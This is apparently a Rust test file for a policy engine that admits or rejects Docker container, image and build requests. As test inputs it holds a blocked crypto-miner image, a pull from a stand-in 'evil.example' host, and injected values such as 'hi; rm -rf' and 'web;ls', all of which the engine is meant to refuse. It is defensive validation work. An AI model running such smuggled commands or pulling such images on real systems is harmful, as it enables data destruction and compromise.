    fn test_privileged_false_is_fine() {
        assert!(engine()
            .validate(&run("alpine").with_option("privileged", false))
            .is_allowed());
    }

    #[test]
    fn test_allowlisted_capability() {
        let op = engine()
            .admit(&run("nginx").with_option("cap_add", "cap_net_bind_service"))
            .unwrap();
        let ValidatedOperation::CreateContainer { spec, .. } = op else {
            panic!("expected create");
        };
        assert_eq!(spec.cap_add, vec!["NET_BIND_SERVICE".to_string()]);
    }

    #[test]
    fn test_numeric_clamping() {
        let engine = engine();
        let op = engine
            .admit(
                &OperationRequest::container("web", ContainerActionKind::Logs)
                    .with_option("tail", 1_000_000),
            )
            .unwrap();
        assert!(matches!(
            op,
            ValidatedOperation::Container {
                command: ContainerCommand::Logs(LogOptions { tail: 1000, .. }),
                ..
            }
        ));

        let op = engine
            .admit(
                &run("alpine")
                    .with_option("cpus", 64.0)
                    .with_option("memory", "64g"),
            )
            .unwrap();
        let ValidatedOperation::CreateContainer { spec, .. } = op else {
            panic!("expected create");
        };
        assert_eq!(spec.nano_cpus, Some(2_000_000_000));
        assert_eq!(spec.memory_bytes, Some(1024 * 1024 * 1024));

        let op = engine
            .admit(&OperationRequest::container("web", ContainerActionKind::Stop).with_option("timeout", 9999))
            .unwrap();
        assert!(matches!(
            op,
            ValidatedOperation::Container {
                command: ContainerCommand::Stop { timeout_secs: 120 },
                ..
            }
        ));
    }

    #[test]
    fn test_command_keeps_quoted_arguments() {
        let engine = engine();
        let op = engine
            .admit(&run("alpine").with_option("command", "sh -c 'echo hello world'"))
            .unwrap();
        let ValidatedOperation::CreateContainer { spec, .. } = op else {
            panic!("expected create");
        };
        assert_eq!(
            spec.command,
            Some(vec!["sh".to_string(), "-c".to_string(), "echo hello world".to_string()])
        );

        let op = engine
            .admit(&run("alpine").with_option("command", r#"printf "%s\n" a\ b"#))
            .unwrap();
        let ValidatedOperation::CreateContainer { spec, .. } = op else {
            panic!("expected create");
        };
        assert_eq!(
            spec.command,
            Some(vec!["printf".to_string(), "%s\\n".to_string(), "a b".to_string()])
        );

        assert_eq!(
            reason(&engine, run("alpine").with_option("command", "sh -c 'echo hi")),
            Some(PolicyViolationKind::ParameterOutOfRange)
        );
    }

    #[test]
    fn test_compose_project_names() {
        let engine = engine();
        assert!(engine.check_compose_project("shop_v2-prod").is_ok());
        for bad in ["", "Shop", "-shop", "shop/x", "shop name"] {
            assert_eq!(
                engine.check_compose_project(bad).unwrap_err().kind,
                PolicyViolationKind::InvalidIdentifier,
                "{:?}",
                bad
            );
        }
    }

    #[test]
    fn test_uninterpretable_numbers() {
        let engine = engine();
        let cases = vec![
            OperationRequest::container("web", ContainerActionKind::Logs).with_option("tail", "lots"),
            OperationRequest::container("web", ContainerActionKind::Logs).with_option("tail", -5),
            run("alpine").with_option("cpus", -1.0),
            run("alpine").with_option("memory", "huge"),
            run("alpine").with_option("port.80", 80),
            run("alpine").with_option("port.80", 70000),
            run("alpine").with_option("port.0", 8080),
            OperationRequest::container("web", ContainerActionKind::Stop).with_option("force", true),
        ];
        for request in cases {
            assert_eq!(
                reason(&engine, request.clone()),
                Some(PolicyViolationKind::ParameterOutOfRange),
                "{:?}",
                request
            );
        }
    }

    #[test]
    fn test_image_lists_and_schemes() {
        let engine = engine();
        let blocked = OperationRequest::image("xmrig/xmrig:latest", ImageActionKind::Pull);
        assert_eq!(reason(&engine, blocked), Some(PolicyViolationKind::InvalidIdentifier));

        let url = OperationRequest::image("https://evil.example/app", ImageActionKind::Pull);
        assert_eq!(reason(&engine, url), Some(PolicyViolationKind::InvalidIdentifier));

        // Removal of a blocked image that is already present is fine.
        let remove = OperationRequest::image("xmrig/xmrig:latest", ImageActionKind::Remove);
        assert!(engine.validate(&remove).is_allowed());
    }

    #[test]
    fn test_pull_reference_parsing() {
        let engine = engine();
        let op = engine
            .admit(&OperationRequest::image("localhost:5000/team/app:1.2", ImageActionKind::Pull))
            .unwrap();
        assert_eq!(
            op,
            ValidatedOperation::PullImage(PullSpec {
                image: "localhost:5000/team/app".to_string(),
                tag: "1.2".to_string()
            })
        );

        let op = engine
            .admit(&OperationRequest::image("redis", ImageActionKind::Pull))
            .unwrap();
        assert_eq!(
            op,
            ValidatedOperation::PullImage(PullSpec {
                image: "redis".to_string(),
                tag: "latest".to_string()
            })
        );
    }

    #[test]
    fn test_build_requests() {
        let engine = engine();
        assert_eq!(
            reason(&engine, OperationRequest::build("mystery")),
            Some(PolicyViolationKind::UnknownProject)
        );
        assert_eq!(
            reason(&engine, OperationRequest::build("ocr").with_option("path", "/etc")),
            Some(PolicyViolationKind::UnknownProject)
        );

        let op = engine
            .admit(
                &OperationRequest::build("ocr")
                    .with_option("tags", "ocr:1.0, registry.local/ocr:1.0")
                    .with_option("deploy", true),
            )
            .unwrap();
        let ValidatedOperation::Build(plan) = op else {
            panic!("expected build");
        };
        assert_eq!(plan.tag, "ocr:latest");
        assert_eq!(plan.extra_tags.len(), 2);
        assert!(plan.deploy);
        assert!(!plan.push);
        assert_eq!(plan.context, PathBuf::from("/projects/ocr"));

        assert_eq!(
            reason(&engine, OperationRequest::build("ocr").with_option("push", true)),
            Some(PolicyViolationKind::ParameterOutOfRange)
        );
        assert!(engine
            .validate(
                &OperationRequest::build("ocr")
                    .with_option("tag", "registry.local/ocr:1.0")
                    .with_option("push", true)
            )
            .is_allowed());
    }

    #[test]
    fn test_env_rules() {
        let engine = engine();
        assert_eq!(
            reason(&engine, run("alpine").with_option("env.1BAD", "x")),
            Some(PolicyViolationKind::InvalidIdentifier)
        );
        assert_eq!(
            reason(&engine, run("alpine").with_option("env.GREETING", "hi; rm -rf")),
            Some(PolicyViolationKind::InvalidIdentifier)
        );
        let op = engine
            .admit(&run("postgres:16").with_option("env.POSTGRES_DB", "app").with_option("port.5432", 15432))
            .unwrap();
        let ValidatedOperation::CreateContainer { spec, start } = op else {
            panic!("expected create");
        };
        assert!(start);
        assert_eq!(spec.env.get("POSTGRES_DB").map(String::as_str), Some("app"));
        assert_eq!(spec.ports.get(&5432), Some(&15432));
    }

    #[test]
    fn test_list_filters() {
        let engine = engine();
        assert!(engine
            .admit_filter(&ContainerFilter::all().with_status("exited").with_label("tier=web"))
            .is_ok());
        assert_eq!(
            engine
                .admit_filter(&ContainerFilter::default().with_status("zombie"))
                .unwrap_err()
                .kind,
            PolicyViolationKind::ParameterOutOfRange
        );
        assert_eq!(
            engine
                .admit_filter(&ContainerFilter::default().with_name("web;ls"))
                .unwrap_err()
                .kind,
            PolicyViolationKind::InvalidIdentifier
        );
    }

    #[test]
    fn test_validation_is_deterministic() {
        let engine = engine();
        let request = run("alpine").with_option("mount.0", "/home:/home");
        assert_eq!(engine.validate(&request), engine.validate(&request));
    }
}
